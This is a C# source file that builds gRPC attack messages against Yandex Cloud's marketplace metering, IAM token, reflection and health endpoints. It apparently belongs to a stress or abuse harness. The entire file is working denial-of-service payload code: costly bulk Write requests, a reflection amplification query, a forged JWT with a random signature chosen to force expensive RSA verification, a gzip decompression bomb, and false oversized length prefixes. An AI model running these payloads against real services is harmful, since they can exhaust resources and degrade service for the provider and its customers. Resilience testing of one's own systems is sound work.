using System.Buffers.Binary;
using System.Buffers.Text;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;

namespace Metering.Attacks;

/// <summary>gRPC messages of the attackers, length prefix included.</summary>
internal static class Messages
{
    public const string WritePath = "/yandex.cloud.marketplace.metering.v1.ProductUsageService/Write";
    public const string TokenPath = "/yandex.cloud.iam.v1.IamTokenService/Create";
    public const string ReflectionPath = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    public const string WatchPath = "/grpc.health.v1.Health/Watch";

    private const int PrefixBytes = 5;
    private const int SignatureBytes = 256;
    private const int RecordsPerWrite = 25;

    /// <summary>A dry run of a full Write: all the work of judging it, and nothing is counted.</summary>
    public static byte[] DryRun(AttackTarget target, TimeProvider time)
    {
        long seconds = time.GetUtcNow().ToUnixTimeSeconds();
        byte[] timestamp = [0x08, .. Varint((ulong)seconds)];
        var message = new List<byte> { 0x08, 1 };
        message.AddRange(Text(2, target.Instance));
        for (int record = 0; record < RecordsPerWrite; record++)
        {
            string uuid = new Guid(RandomNumberGenerator.GetBytes(16)).ToString("D");
            message.AddRange(Bytes(3, [.. Text(1, uuid), .. Text(2, target.Sku), 0x18, 1, .. Bytes(4, timestamp)]));
        }

        return Frame([.. message]);
    }

    /// <summary>Asks reflection for a service with everything that it depends on, an answer of many kilobytes.</summary>
    public static byte[] Reflection() => Frame(Text(4, "yandex.cloud.marketplace.metering.v1.ProductUsageService"));

    /// <summary>An exchange of a JWT that has the form and whose signature nobody made.</summary>
    public static byte[] ForgedJwt(TimeProvider time)
    {
        long now = time.GetUtcNow().ToUnixTimeSeconds();
        string header = Base64Url.EncodeToString("""{"typ":"JWT","alg":"PS256","kid":"ajek0000000000000000"}"""u8);
        string claims = Base64Url.EncodeToString(Encoding.ASCII.GetBytes(
            $$"""{"iss":"aje00000000000000000","aud":"https://iam.api.cloud.yandex.net/iam/v1/tokens","iat":{{now}},"exp":{{now + 3600}}}"""));
        byte[] signature = RandomNumberGenerator.GetBytes(SignatureBytes);
        signature[0] &= 0x7F; // below every modulus, so that it is not refused before the arithmetic
        return Frame(Text(2, $"{header}.{claims}.{Base64Url.EncodeToString(signature)}"));
    }

    /// <summary>Zeros of a given size, compressed: as much in little as gzip allows.</summary>
    public static byte[] GzipBomb(int inflatedBytes)
    {
        var compressed = new MemoryStream();
        using (var gzip = new GZipStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
            gzip.Write(new byte[inflatedBytes]);
        byte[] frame = Frame(compressed.ToArray());
        frame[0] = 1;
        return frame;
    }

    /// <summary>The prefix of a message that is announced to have this size.</summary>
    public static byte[] Prefix(uint bytes)
    {
        var prefix = new byte[PrefixBytes];
        BinaryPrimitives.WriteUInt32BigEndian(prefix.AsSpan(1), bytes);
        return prefix;
    }

    private static byte[] Frame(byte[] message) => [.. Prefix((uint)message.Length), .. message];

    private static byte[] Text(int field, string value) => Bytes(field, Encoding.UTF8.GetBytes(value));

    private static byte[] Bytes(int field, byte[] value) => [(byte)((field << 3) | 2), .. Varint((ulong)value.Length), .. value];

    private static byte[] Varint(ulong value)
    {
        var bytes = new List<byte>();
        for (; value >= 0x80; value >>= 7)
            bytes.Add((byte)(value | 0x80));
        bytes.Add((byte)value);
        return [.. bytes];
    }
}
